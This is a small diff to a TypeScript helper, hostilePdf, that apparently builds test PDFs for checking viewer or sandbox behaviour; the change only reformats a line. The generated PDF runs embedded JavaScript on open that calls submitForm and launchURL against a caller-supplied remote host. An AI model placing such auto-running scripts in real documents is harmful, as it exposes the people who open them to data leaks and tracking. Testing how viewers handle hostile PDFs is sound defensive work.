@@ -4,7 +4,9 @@
 export function hostilePdf(lines: string[], remote: string): Uint8Array {
   const esc = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);
   const stream = `BT /F1 12 Tf 72 720 Td 14 TL ${lines.map((l) => `(${esc(l)}) Tj T*`).join(' ')} ET`;
-  const js = esc(`app.alert('pdf script ran'); this.submitForm('${remote}/submit'); app.launchURL('${remote}/launch', true);`);
+  const js = esc(
+    `app.alert('pdf script ran'); this.submitForm('${remote}/submit'); app.launchURL('${remote}/launch', true);`,
+  );
   const objects = [
     '',
     `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(hello) 6 0 R] >> >> /AA << /WC 6 0 R >> >>`,
